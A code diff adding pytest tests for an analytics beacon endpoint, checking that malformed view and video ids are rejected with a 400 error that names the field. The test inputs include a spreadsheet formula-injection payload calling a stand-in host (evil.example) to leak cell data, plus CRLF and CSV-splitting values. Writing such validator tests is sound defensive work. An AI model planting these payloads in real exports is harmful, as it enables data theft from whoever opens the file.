@@ -125,3 +125,27 @@ def test_bad_consent_body_is_400(server, tenant):
               "policy_version": "1", "viewer_email": "not-an-email"},
     )
     assert r.status_code == 400 and r.json()["detail"]["path"] == "$.viewer_email"
+
+
+@pytest.mark.parametrize("field, value", [
+    ("video_id", '=HYPERLINK("http://evil.example/?"&A1,"open")'), ("video_id", "@SUM(1)"),
+    ("view_id", "view\r\nrow"), ("view_id", "a,b"), ("video_id", "vd 1"), ("video_id", "vidéo"),
+    ("view_id", '"quoted"'),
+])
+def test_beacon_ids_outside_the_id_characters_are_400_naming_the_field(consented, store, field, value):
+    """`view_id` and `video_id` are ids: `[A-Za-z0-9._:-]{1,128}`, like tenant and viewer ids."""
+    server, tenant = consented
+    r = collect(server.http, tenant.tenant_id, VIEWER, [event(), event(), event(**{field: value})])
+    assert r.status_code == 400, r.text
+    assert r.json()["error"] == "invalid_field"
+    assert r.json()["detail"]["path"] == f"$.events[2].{field}"
+    assert field in r.json()["detail"]["message"]
+    _assert_nothing_stored(server, store, tenant)
+
+
+def test_the_ids_players_send_are_accepted(consented, store):
+    server, tenant = consented
+    ids = [("3f2a9c1e-5b7d-4e8a-9c0d-1a2b3c4d5e6f", "vd_0123456789abcdef"), ("v.1:x_y-z", "st_0123456789abcdef"),
+           ("a" * 128, "-1-1")]
+    r = collect(server.http, tenant.tenant_id, VIEWER, [event(view_id=v, video_id=m) for v, m in ids])
+    assert r.status_code == 202, r.text
